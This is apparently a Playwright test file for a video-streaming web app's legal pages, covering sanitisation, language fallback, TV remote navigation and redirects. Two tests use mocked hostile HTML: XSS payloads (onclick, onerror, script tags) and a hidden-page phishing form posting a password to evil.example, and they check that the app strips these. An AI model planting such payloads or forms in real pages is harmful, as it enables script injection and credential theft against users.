import { expect, test } from '@playwright/test';
import { focusedKey, pressRemote, screenshotDir } from './remote.ts';

/** spec: browsing 1 step 6 and 2, Legal pages. */
test('legal documents come from the config, sanitised before display', async ({ page }) => {
  await page.route('**/legal/terms-of-use.en.html', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: '<h1>Operator terms</h1><p onclick="window.hacked = 1">Read me</p><img src="x" onerror="window.hacked = 2"><script>window.hacked = 3</script>',
    }),
  );
  await page.goto('/terms-of-use?device=desktop');
  await expect(page.getByRole('heading', { name: 'Operator terms' })).toBeVisible();
  const body = page.locator('.static-page__body');
  await expect(body.locator('script')).toHaveCount(0);
  expect(await body.innerHTML()).not.toMatch(/onclick|onerror/);
  await body.getByText('Read me').click();
  expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
});

test('a hostile legal document cannot blank the app or ask for a password (issue 22)', async ({ page }) => {
  await page.route('**/legal/terms-of-use.en.html', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: '<style>body{display:none}</style><h1 style="display:none">Operator terms</h1><form action="https://evil.example"><input type="password" name="p"><button>Sign in</button></form><p>Plain text stays</p>',
    }),
  );
  await page.goto('/terms-of-use?device=desktop');
  await expect(page.getByRole('heading', { name: 'Operator terms' })).toBeVisible();
  await expect(page.getByText('Plain text stays')).toBeVisible();
  const body = page.locator('.static-page__body');
  await expect(body.locator('style, form, input, button')).toHaveCount(0);
  expect(await body.innerHTML()).not.toContain('style=');
  await expect(page.locator('body')).toBeVisible();
});

test('Spanish viewers get the Spanish document; without documents, the built-in text', async ({ page }) => {
  await page.addInitScript(() => localStorage.setItem('ott.language', 'es'));
  await page.goto('/privacy-policy?device=desktop');
  await expect(page.getByRole('heading', { name: 'Política de privacidad' })).toBeVisible();

  const config = await (await page.request.get('/apps/configs/ottdemo1.json')).json();
  delete config.termsOfUse;
  await page.route('**/apps/configs/ottdemo1.json', (route) => route.fulfill({ json: config }));
  await page.goto('/terms-of-use?device=desktop');
  await expect(page.getByText('Debes tener 18 años o más')).toBeVisible();
  await expect(page.getByText('100 USD')).toBeVisible();
});

test('the footer links to the legal pages and the about page', async ({ page }) => {
  await page.goto('/?device=desktop');
  await page.getByRole('navigation', { name: 'Legal' }).getByRole('link', { name: 'About us' }).click();
  await expect(page).toHaveURL(/\/o\/about$/);
  await expect(
    page.getByText('An open-source video website built on a hosted video-player platform.'),
  ).toBeVisible();
});

test('the legal pages also open from the user area', async ({ page }) => {
  await page.goto('/u/privacy-policy?device=tizen');
  await expect(page.getByRole('heading', { name: 'Privacy policy' })).toBeVisible();
  await page.goto('/u/terms-of-use?device=tizen');
  await expect(page.getByRole('heading', { name: 'Terms of use' })).toBeVisible();
});

test('at its own path a legal page has a back button that goes back one step; in the user area not', async ({
  page,
}) => {
  await page.goto('/u/settings?device=tizen');
  await expect.poll(() => focusedKey(page)).toBe('setting-autoplay');
  for (let step = 0; step < 3; step += 1) await pressRemote(page, 'down');
  await expect.poll(() => focusedKey(page)).toBe('setting-legal-privacy_policy');
  await pressRemote(page, 'enter');
  await expect(page).toHaveURL(/\/privacy-policy$/);
  // The text takes focus (Up/Down scroll it); Up from its top reaches the back button.
  await expect.poll(() => focusedKey(page)).toBe('page-text');
  await pressRemote(page, 'up');
  await expect.poll(() => focusedKey(page)).toBe('legal-back');
  await page.screenshot({ path: `${screenshotDir}/legal-privacy.png` });
  await pressRemote(page, 'enter');
  await expect(page).toHaveURL(/\/u\/settings\?device=tizen$/);
  await expect.poll(() => focusedKey(page)).toBe('setting-legal-privacy_policy');

  await page.goto('/u/terms-of-use?device=tizen');
  await expect(page.getByRole('heading', { name: 'Terms of use' })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Back' })).toHaveCount(0);
});

test('a legal page opens scrolled to the top', async ({ page }) => {
  await page.goto('/?device=desktop');
  await expect.poll(() => focusedKey(page)).toBe('card-0-m001demo');
  await page.mouse.wheel(0, 2500);
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(1000);
  await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy policy' }).click();
  await expect(page).toHaveURL(/\/privacy-policy$/);
  await expect(page.getByRole('heading', { name: 'Privacy policy' })).toBeVisible();
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(0);
});

test('a stored language the product does not translate: English words, Language not supported, Select Language', async ({
  page,
}) => {
  await page.addInitScript(() => {
    if (!sessionStorage.getItem('seeded')) {
      sessionStorage.setItem('seeded', '1');
      localStorage.setItem('ott.language', 'fr');
    }
  });
  // ottnofea has no legal documents: the built-in privacy policy would show, but not in French.
  await page.goto('/privacy-policy?device=tizen&app-config=ottnofea');
  await expect(page.getByRole('heading', { level: 1, name: 'Privacy policy' })).toBeVisible();
  await expect(page.getByText('Language not supported')).toBeVisible();
  expect(await page.evaluate(() => document.documentElement.lang)).toBe('en');
  await page.screenshot({ path: `${screenshotDir}/legal-language-not-supported.png` });

  await page.goto('/u/settings?device=tizen');
  await expect(page.locator('[data-focus-key="setting-language"]')).toHaveText('LanguageSelect Language›');
  await pressRemote(page, 'enter');
  await expect.poll(() => focusedKey(page)).toBe('language-en');
  await pressRemote(page, 'enter');
  await expect(page.locator('[data-focus-key="setting-language"]')).toHaveText('LanguageEnglish›');
  await page.goto('/privacy-policy?device=tizen');
  await expect(page.getByText('Language not supported')).toHaveCount(0);
  await expect(page.getByText('children under 13')).toBeVisible();
});

test('a configured redirect URL: desktop goes there, a TV says where it is', async ({ page, context }) => {
  await context.route('https://example.org/**', (route) =>
    route.fulfill({ body: '<h1>Operator terms</h1>' }),
  );
  await page.goto('/terms-of-use?device=desktop&app-config=ottlegal');
  await expect(page).toHaveURL('https://example.org/terms');
  await expect(page.getByRole('heading', { name: 'Operator terms' })).toBeVisible();

  await page.goto('/terms-of-use?device=tizen&app-config=ottlegal');
  await expect(page.getByText('Read it at https://example.org/terms')).toBeVisible();
  await expect.poll(() => focusedKey(page)).toBe('legal-back');
});

test('the site decides the language: multi-language off keeps the default; a language it does not offer gives way', async ({
  page,
}) => {
  await page.addInitScript(() => localStorage.setItem('ott.language', 'es'));
  const config = await (await page.request.get('/apps/configs/ottdemo1.json')).json();
  config.featureFlags = { isMultiLanguageSupport: false };
  await page.route('**/apps/configs/ottdemo1.json', (route) => route.fulfill({ json: config }));
  await page.goto('/u/settings?device=tizen');
  await expect(page.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible();
  await expect(page.locator('[data-focus-key="setting-language"]')).toHaveCount(0);

  config.featureFlags = {};
  config.availableLanguages = ['en'];
  await page.goto('/u/settings?device=tizen');
  await expect(page.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible();
  await page.locator('[data-focus-key="setting-language"]').click();
  await expect(page.locator('.settings__view .setting-row')).toHaveText(['English']);
});
